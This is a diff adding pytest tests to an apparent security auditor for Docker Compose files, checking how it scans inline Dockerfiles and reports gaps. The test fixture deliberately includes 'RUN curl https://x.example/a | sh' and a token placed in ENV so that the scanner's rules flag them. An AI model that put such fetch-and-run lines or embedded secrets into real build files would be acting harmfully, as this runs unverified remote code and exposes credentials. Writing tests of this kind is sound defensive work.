@@ -189,3 +189,55 @@ def test_beside_kubernetes_without_a_profile(tmp_path: Path) -> None:
         assert frameworks == {each["framework"] for each in alone["controls"]}
         assert here in frameworks
         assert elsewhere not in frameworks
+
+
+INLINE = f"""services:
+  web:
+    build:
+      dockerfile_inline: |
+        FROM python:latest
+        ENV API_TOKEN={CANARY}
+        RUN curl https://x.example/a | sh
+        USER 1000
+  odd:
+    build: {{dockerfile_inline: "FRUM x"}}
+  app:
+    build: {{dockerfile_inline: "FROM scratch\\nARG WHO\\nUSER $${{WHO}}\\n"}}
+"""
+
+
+def test_a_dockerfile_within(tmp_path: Path) -> None:
+    """It is judged as any other one, at the line of its field, and tells who the service is."""
+    folder, bundle = write(tmp_path, {"s/compose.yaml": INLINE}), tmp_path / "bundle"
+    ran = auditor("scan", folder, "--format", "json", "--all", "--output", bundle)
+    results = ran.results()
+    of_file = {
+        (each["rule"], each["resource"]["name"], each["resource"]["line"])
+        for each in results["findings"]
+        if each["resource"]["kind"] == "docker/Dockerfile" and each["verdict"] == "fail"
+    }
+    assert of_file == {
+        ("docker-build-base-tag-mutable", "web", 4),
+        ("docker-build-download-run", "web", 4),
+        ("docker-build-secret-in-environment", "web", 4),
+    }
+    users = {
+        each["resource"]["name"]: each["verdict"]
+        for each in results["findings"]
+        if each["rule"] == "docker-container-root-user"
+    }
+    assert users == {"web": "pass", "odd": "unknown", "app": "unknown"}
+    [gap] = results["gaps"]
+    assert (gap["scope"], gap["line"]) == ("s/compose.yaml", 10)
+    assert gap["detail"].startswith("dockerfile_inline of odd, line 1: ")
+    assert CANARY not in ran.out
+    assert auditor("replay", bundle).code == 0
+
+
+def test_mounts_of_a_container_that_no_file_starts(tmp_path: Path) -> None:
+    """What it mounts nobody can say: the run is not complete, and says where that stands."""
+    text = "services:\n  web:\n    image: x\n    volumes_from: ['container:old']\n"
+    ran = auditor("scan", write(tmp_path, {"s/compose.yaml": text}), "--format", "json")
+    [gap] = ran.results()["gaps"]
+    assert (gap["scope"], gap["cause"]) == ("docker/ComposeService", "unsupported")
+    assert gap["detail"].startswith("s/compose.yaml:2: web: volumes_from container:old: ")
